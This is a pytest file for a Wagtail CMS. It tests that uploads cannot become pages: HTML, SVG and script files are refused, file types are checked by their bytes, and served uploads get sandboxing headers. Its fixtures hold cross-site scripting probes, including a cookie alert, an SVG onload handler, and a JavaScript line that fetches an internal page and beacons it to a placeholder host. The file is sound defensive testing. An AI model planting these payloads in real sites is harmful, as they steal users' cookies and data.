"""Uploads that cannot become pages: each kind takes its allowed extensions only, with bytes
that match them, and what is served from uploads carries nosniff, a sandboxing CSP and (but
for video, audio and images) a download disposition."""


import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import RequestFactory
from django.views.static import serve
from wagtail.documents import get_document_model
from wagtail.documents.forms import get_document_form
from wagtail.images import get_image_model
from wagtail.images.forms import get_image_form
from wagtail.models import Collection
from wagtailmedia.forms import get_media_form
from wagtailmedia.models import Media

from cms.middleware import UploadHeadersMiddleware

HTML = b"<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>"
SVG = b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"></svg>'
JS = b"fetch('/hr/').then(r => r.text()).then(t => navigator.sendBeacon('//x', t));"
PROBES = {"probe.html": HTML, "probe.svg": SVG, "probe.js": JS}
MP4 = b"\x00\x00\x00\x18ftypmp42\x00\x00\x00\x00mp42isom" + b"\x00" * 64
MP3 = b"ID3\x03\x00\x00\x00\x00\x00\x00" + b"\xff\xfb\x90\x00" * 32
PDF = b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF\n"


def _png() -> bytes:
    from io import BytesIO

    from PIL import Image

    out = BytesIO()
    Image.new("RGB", (2, 2), "white").save(out, "PNG")
    return out.getvalue()


PNG = _png()


def upload(name, data):
    return SimpleUploadedFile(name, data)


def media_form(kind, name, data):
    form_class = get_media_form(Media)
    return form_class({"title": name, "collection": Collection.get_first_root_node().pk,
                       "duration": "10"},
                      {"file": upload(name, data)}, instance=Media(type=kind), user=None)


def document_form(name, data):
    form_class = get_document_form(get_document_model())
    return form_class({"title": name, "collection": Collection.get_first_root_node().pk},
                      {"file": upload(name, data)}, user=None)


def image_form(name, data):
    form_class = get_image_form(get_image_model())
    return form_class({"title": name, "collection": Collection.get_first_root_node().pk},
                      {"file": upload(name, data)}, user=None)


@pytest.mark.parametrize("kind", ["video", "audio", "media"])
@pytest.mark.parametrize("name", list(PROBES))
def test_pages_and_scripts_are_refused_as_media(db, kind, name):
    form = media_form(kind, name, PROBES[name])
    assert not form.is_valid()
    assert "file" in form.errors


@pytest.mark.parametrize("name", ["probe.mp4", "probe.mp3", "probe.webm"])
def test_markup_named_as_media_is_refused(db, name):
    form = media_form("video" if name != "probe.mp3" else "audio", name, HTML)
    assert not form.is_valid() and "file" in form.errors


def test_real_video_and_audio_are_taken(db):
    form = media_form("video", "lesson.mp4", MP4)
    assert form.is_valid(), form.errors
    form = media_form("audio", "talk.mp3", MP3)
    assert form.is_valid(), form.errors
    # The generic "media" view: the file says which kind it is.
    form = media_form("media", "lesson.mp4", MP4)
    assert form.is_valid(), form.errors
    assert form.instance.type == "video"


def test_a_video_named_as_audio_is_refused(db):
    form = media_form("audio", "lesson.mp4", MP4)
    assert not form.is_valid()


@pytest.mark.parametrize("name", list(PROBES) + ["probe.txt", "probe.pdf", "probe.docx"])
def test_pages_and_scripts_are_refused_as_documents(db, name):
    data = PROBES.get(name, HTML)
    form = document_form(name, data)
    assert not form.is_valid()
    assert "file" in form.errors


def test_real_documents_are_taken(db):
    assert document_form("handout.pdf", PDF).is_valid()
    assert document_form("notes.txt", "心理危机识别要点\n一、……\n".encode()).is_valid()
    assert document_form("roster.xlsx", b"PK\x03\x04" + b"\x00" * 40).is_valid()


@pytest.mark.parametrize("name", list(PROBES) + ["probe.png"])
def test_pages_and_scripts_are_refused_as_images(db, name):
    form = image_form(name, PROBES.get(name, SVG))
    assert not form.is_valid()
    assert "file" in form.errors


def test_a_real_image_is_taken(db):
    form = image_form("photo.png", PNG)
    assert form.is_valid(), form.errors


def test_the_admin_refuses_a_page_uploaded_as_media(client, django_user_model):
    admin = django_user_model.objects.create_superuser("root", "root@example.test", "pw")
    client.force_login(admin)
    for route in ("video", "audio", "media"):
        for name, data in PROBES.items():
            client.post(f"/admin/media/{route}/add/", {
                "title": name, "collection": Collection.get_first_root_node().pk,
                "duration": "1", "file": upload(name, data)})
    assert not Media.objects.exists()


# ------------------------------------------------------------------ serving

@pytest.fixture
def media_root(settings, tmp_path):
    settings.MEDIA_ROOT = str(tmp_path)
    (tmp_path / "media").mkdir()
    for name, data in {**PROBES, "lesson.mp4": MP4, "photo.png": PNG, "handout.pdf": PDF}.items():
        (tmp_path / "media" / name).write_bytes(data)
    return tmp_path


def serve_as_make_run(path):
    """/media/ as `make run` serves it: django.views.static.serve under the site's middleware."""
    from django.conf import settings

    request = RequestFactory().get(f"/media/{path}")
    return UploadHeadersMiddleware(lambda r: serve(r, path, document_root=settings.MEDIA_ROOT))(request)


@pytest.mark.parametrize("name", ["media/probe.html", "media/probe.svg", "media/probe.js",
                                  "media/handout.pdf"])
def test_served_uploads_cannot_run_as_pages(media_root, name):
    response = serve_as_make_run(name)
    assert response.status_code == 200
    assert response["X-Content-Type-Options"] == "nosniff"
    assert "default-src 'none'" in response["Content-Security-Policy"]
    assert "sandbox" in response["Content-Security-Policy"]
    assert response["Content-Disposition"].startswith("attachment")


@pytest.mark.parametrize("name", ["media/lesson.mp4", "media/photo.png"])
def test_video_and_images_still_play_inline(media_root, name):
    response = serve_as_make_run(name)
    assert response["X-Content-Type-Options"] == "nosniff"
    assert "sandbox" in response["Content-Security-Policy"]
    assert not response.get("Content-Disposition", "").startswith("attachment")


def test_make_run_serves_media_through_the_headers(settings):
    """The dev server's /media/ route passes through the middleware that adds them."""
    assert "cms.middleware.UploadHeadersMiddleware" in settings.MIDDLEWARE


def test_a_served_document_is_a_sandboxed_download(client, db, media_root):
    doc = get_document_model().objects.create(
        title="handout", file=SimpleUploadedFile("handout.pdf", PDF))
    response = client.get(doc.url)
    assert response.status_code == 200
    assert response["X-Content-Type-Options"] == "nosniff"
    assert "sandbox" in response["Content-Security-Policy"]
    assert response["Content-Disposition"].startswith("attachment")
    assert b"".join(response.streaming_content).startswith(b"%PDF")


def test_the_nginx_config_sends_the_same_headers():
    from django.conf import settings

    text = (settings.BASE_DIR / "docs" / "deploy.md").read_text(encoding="utf-8")
    block = text[text.index("location /media/"):]
    block = block[:block.index("}")]
    assert "X-Content-Type-Options" in block and "nosniff" in block
    assert "default-src 'none'; sandbox" in block
    assert "Content-Disposition $upload_disposition" in block
    assert "map $uri $upload_disposition" in text


def test_sniffing_reads_the_first_bytes(db):
    from cms.uploads import sniff

    assert sniff(MP4) == "isobmff" and sniff(MP3) == "mp3" and sniff(PDF) == "pdf"
    assert sniff(PNG) == "png" and sniff(HTML) is None and sniff(SVG) is None
    assert sniff("纯文本".encode("gb18030")) == "text"
